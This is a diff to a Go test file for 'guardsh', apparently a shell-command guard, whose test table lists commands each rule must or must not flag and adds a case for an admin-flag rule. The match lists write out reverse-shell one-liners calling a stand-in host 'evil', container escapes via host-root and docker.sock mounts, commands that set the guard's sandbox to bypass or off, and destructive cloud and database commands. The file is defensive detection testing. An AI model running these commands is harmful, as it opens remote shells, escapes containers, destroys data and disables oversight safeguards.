@@ -142,6 +142,7 @@ var catalogueTests = []struct {
 	{id: idNetReverseShell, match: []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 3<>/dev/tcp/evil/80", "nc -e /bin/sh evil 4444", "ncat --sh-exec 'bash' evil 1", "socat tcp:evil:1 exec:/bin/sh", `python3 -c "import socket,os,pty;s=socket.socket();s.connect(('e',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"`}, notMatch: []string{"nc -z host 80", "socat - tcp:host:80", "curl https://x"}},
 	{id: idContainerHostMount, match: []string{"docker run -v /:/host alpine", "docker run --volume=/etc:/etc x", "podman run -v ~:/h x", "docker run -v /var/run/docker.sock:/var/run/docker.sock x", "docker run --mount type=bind,source=/,target=/h x"}, notMatch: []string{"docker run -v ./data:/data x", "docker ps"}},
 	{id: idContainerPrivileged, match: []string{"docker run --privileged x", "docker run --pid=host x"}, notMatch: []string{"docker run x"}},
+	{id: idGuardshAdmin, match: []string{"guardsh-agent --admin-device /dev/sdb task", "guardsh-agent --admin x", "/usr/local/bin/guardsh-agent --admin-device=/dev/sdb x", "sh -c 'guardsh-agent --admin x'"}, notMatch: []string{"guardsh-agent undo", "guardsh --check -c 'echo --admin'"}},
 	{id: idGuardshSelf, match: []string{"export GUARDSH_MODE=bypass", "GUARDSH_MODE=bypass make", "GUARDSH_SANDBOX=off", "guardsh --mode bypass -c x", "guardsh --no-sandbox -c ls", "env GUARDSH_SANDBOX=off sh -c x", "declare -x GUARDSH_SANDBOX_WRITE=/"}, notMatch: []string{"export GUARDSH_MODE=plan", "guardsh --check -c ls", "export PATH=/x"}},
 	{id: idNetRemoteShell, match: []string{"ssh host ls", "scp f host:/tmp/", "rsync -a . host:/srv/"}, notMatch: []string{"rsync -a src/ build/"}},
 	{id: idNetCloud, match: []string{"aws s3 rm s3://b --recursive", "kubectl delete pod x", "gcloud compute instances delete x", "terraform apply", "docker run ubuntu", "psql -c 'drop table x'", "gh pr create"}, notMatch: []string{"terraform fmt", "docker ps"}},
@@ -190,7 +191,7 @@ func TestCatalogue(t *testing.T) {
 		}
 	}
 	for _, r := range Catalogue() {
-		if !covered[r.ID] {
+		if !covered[r.ID] && !r.Destination { // destination rules: TestNetworkPolicy
 			t.Errorf("rule %s has no must/must-not test", r.ID)
 		}
 		if r.Decision != Allow && (r.Reason == "" || r.Hint == "") {
